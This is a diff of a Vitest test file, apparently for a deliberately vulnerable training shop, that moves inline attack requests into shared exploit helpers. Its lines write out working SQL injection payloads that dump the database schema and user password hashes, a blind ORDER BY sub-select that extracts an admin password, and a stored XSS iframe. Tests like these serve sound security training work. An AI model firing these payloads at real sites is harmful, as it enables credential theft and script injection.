@@ -1,16 +1,15 @@
 import { describe, expect, it } from 'vitest'
-import { createTestShop } from '../../test-support/test-shop.js'
+import { createExploitShop } from '../../test-support/exploits/journey.js'
+import { catalogueExploits } from '../../test-support/exploits/catalogue.js'
 
-const t = createTestShop()
+const t = createExploitShop()
 const search = async (q: string) => await t.api.get('/rest/products/search').query({ q })
 // Nine columns, like Products: id, name, description, price, deluxePrice, image, createdAt, updatedAt, deletedAt.
 const union = (select: string) => `xyz')) UNION SELECT ${select}--`
 
 describe('searchSchemaDumpChallenge', () => {
   it('is solved when a search answer carries the CREATE TABLE text of Users', async () => {
-    const res = await search(union("1, name, sql, 0, 0, '', '', '', NULL FROM sqlite_master WHERE type = 'table'"))
-    expect(res.status).toBe(200)
-    expect(res.body.data.some((row: { description: string }) => /CREATE TABLE Users/.test(row.description))).toBe(true)
+    await catalogueExploits.searchSchemaDumpChallenge(t)
     expect(await t.solved('searchSchemaDumpChallenge')).toBe(true)
   })
 })
@@ -23,10 +22,10 @@ describe('searchUnionUsersChallenge', () => {
   })
 
   it('is solved by a UNION that returns every e-mail with its password hash', async () => {
-    const res = await search(union("id, email, password, 0, 0, '', '', '', NULL FROM Users"))
-    expect(res.status).toBe(200)
-    expect(res.body.data.some((row: { name: string, description: string }) => row.name === t.email('admin') && row.description === '3fc0a7acf087f549ac2b266baf94b8b1')).toBe(true)
+    await catalogueExploits.searchUnionUsersChallenge(t)
     expect(await t.solved('searchUnionUsersChallenge')).toBe(true)
+    const res = await search(union("id, email, password, 0, 0, '', '', '', NULL FROM Users"))
+    expect(res.body.data.some((row: { name: string, description: string }) => row.name === t.email('admin') && row.description === '3fc0a7acf087f549ac2b266baf94b8b1')).toBe(true)
   })
 })
 
@@ -40,8 +39,7 @@ describe('productSortInjectionChallenge', () => {
   })
 
   it('is solved by a sub-select in the ORDER BY clause', async () => {
-    const res = await t.api.get('/api/Products/').query({ sort: "(CASE WHEN (SELECT substr(password, 1, 1) FROM Users WHERE id = 1) = 'd' THEN price ELSE name END)" })
-    expect(res.status).toBe(200)
+    await catalogueExploits.productSortInjectionChallenge(t)
     expect(await t.solved('productSortInjectionChallenge')).toBe(true)
   })
 })
@@ -59,10 +57,7 @@ describe('productXssChallenge', () => {
   })
 
   it('is solved when a customer creates a product whose description runs script', async () => {
-    const { token } = await t.login(t.email('qa.bot'), 'Qa-Bot-Smoke-1')
-    const res = await t.api.post('/api/Products').set('Authorization', `Bearer ${token}`).send({ name: 'XSS Juice', description: '<iframe src="javascript:alert(`xss`)">', price: 1 })
-    expect(res.status).toBe(201)
-    expect((await t.api.get(`/api/Products/${res.body.data.id}`)).body.data.description).toContain('javascript:')
+    await catalogueExploits.productXssChallenge(t)
     expect(await t.solved('productXssChallenge')).toBe(true)
   })
 })
